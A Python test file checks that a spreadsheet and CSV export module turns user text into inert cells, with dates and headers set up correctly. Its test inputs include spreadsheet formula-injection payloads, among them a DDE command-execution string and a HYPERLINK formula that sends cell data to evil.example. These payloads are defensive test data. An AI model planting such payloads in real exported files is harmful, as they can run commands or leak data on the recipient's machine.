"""Tables that leave the chat: what people wrote stays text, days are days, and another program reads them."""

import asyncio
import csv
import io
import zipfile
from collections.abc import AsyncIterator, Iterator, Sequence
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from papers import csv_table, workbook
from papers.plain_cell import LONGEST, tempts
from papers.press import Press
from papers.table import Column, head

COLUMNS = (Column("编号", 16), Column("登记日期", 12, "day"), Column("次数", 8, "number"), Column("地点", 30))
FORMULAS = [
    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1", "\u3000＝1",
    '=cmd|"/c calc"!A1', '=HYPERLINK("http://evil.example/"&A1)',
]  # fmt: skip
"""As somebody would write them who wants an officer's spreadsheet program to do something."""


def lines(*rows: Sequence[Any]) -> Iterator[Any]:
    yield head("线索台账", COLUMNS)
    yield from rows


def sheet_of(content: bytes) -> Worksheet:
    found = openpyxl.load_workbook(io.BytesIO(content)).active
    assert isinstance(found, Worksheet)
    return found


def cells_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_workbook_is_text_and_stays_it_when_edited(formula: str) -> None:
    content = workbook.write(lines([formula, None, None, ""]))
    cell = sheet_of(content).cell(2, 1)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.number_format == "@"
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert not [name for name in parts.namelist() if "external" in name.lower()]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_csv_stands_behind_an_apostrophe(formula: str) -> None:
    _, (cell, *_) = cells_of(csv_table.write(lines([formula, None, None, ""])))
    assert cell == f"'{formula}"


@given(st.text(max_size=30))
def test_no_cell_of_a_csv_begins_like_a_formula(text: str) -> None:
    content = csv_table.write(lines([text, "2026-03-02", 3, text]))
    for row in cells_of(content):
        assert not any(tempts(cell) for cell in row)


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_a_csv_reads_back_as_it_was_written(texts: list[str]) -> None:
    _, *rows = cells_of(csv_table.write(lines(*([text, None, None, "x"] for text in texts))))
    assert [
        row[0].removeprefix("'") if tempts(text) else row[0] for row, text in zip(rows, texts, strict=True)
    ] == texts


def test_a_workbook_has_real_days_widths_filters_and_a_head_that_stays() -> None:
    sheet = sheet_of(workbook.write(lines(["SL-1", "2026-03-02", 2, "后巷"], ["SL-2", None, 0, "市场"])))
    day = sheet.cell(2, 2)
    assert isinstance(day.value, datetime)
    assert day.value.date() == date(2026, 3, 2)
    assert day.is_date
    assert (sheet.cell(2, 3).value, sheet.cell(3, 3).value) == (2, 0)
    assert sheet.cell(3, 2).value is None
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:D3"
    assert sheet.title == "线索台账"
    assert [sheet.cell(1, at).value for at in range(1, 5)] == [column.title for column in COLUMNS]
    assert [round(sheet.column_dimensions[letter].width) for letter in "ABCD"] == [17, 13, 9, 31]


def test_a_csv_opens_as_chinese_in_a_spreadsheet_program() -> None:
    content = csv_table.write(lines(["SL-1", "2026-03-02", 2, "后巷,\n“二”"]))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == 2
    assert cells_of(content)[1] == ["SL-1", "2026-03-02", "2", "后巷,\n“二”"]


def test_an_empty_table_has_its_head() -> None:
    assert sheet_of(workbook.write(lines())).cell(1, 1).value == "编号"
    assert len(cells_of(csv_table.write(lines()))) == 1


@pytest.mark.parametrize("text", ["长" * 40_000, "\x01\x0b_x0041_", "http://evil.example/a", "{=1}", "😀" * 9])
def test_whatever_stands_in_a_cell_the_workbook_opens(text: str) -> None:
    shown = sheet_of(workbook.write(lines([text, None, None, "下一格"])))
    assert shown.cell(2, 4).value == "下一格"
    assert shown.cell(2, 1).hyperlink is None
    assert len(str(shown.cell(2, 1).value)) <= LONGEST


async def given_to(press: Press, writer: str) -> bytes:
    async def fed() -> AsyncIterator[object]:
        for line in lines(["=1+1", "2026-03-02", 1, "后巷"]):
            await asyncio.sleep(0)
            yield line

    return await press.make(writer, fed())


async def test_the_child_makes_what_its_writers_make() -> None:
    assert sheet_of(await given_to(Press(), "workbook")).cell(2, 1).data_type == "s"
    assert cells_of(await given_to(Press(), "csv"))[1][0] == "'=1+1"
